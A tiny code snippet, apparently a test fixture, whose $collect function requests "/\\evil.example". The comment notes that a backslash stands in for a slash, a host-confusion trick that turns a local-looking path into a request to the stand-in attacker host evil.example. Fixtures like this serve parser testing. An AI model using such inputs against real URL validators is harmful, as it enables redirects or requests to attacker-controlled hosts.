;; A backslash in place of a slash.
(func $collect (result i32)
  (call $get @"/\\evil.example" @"accept" @"*/*")
  (call $told))
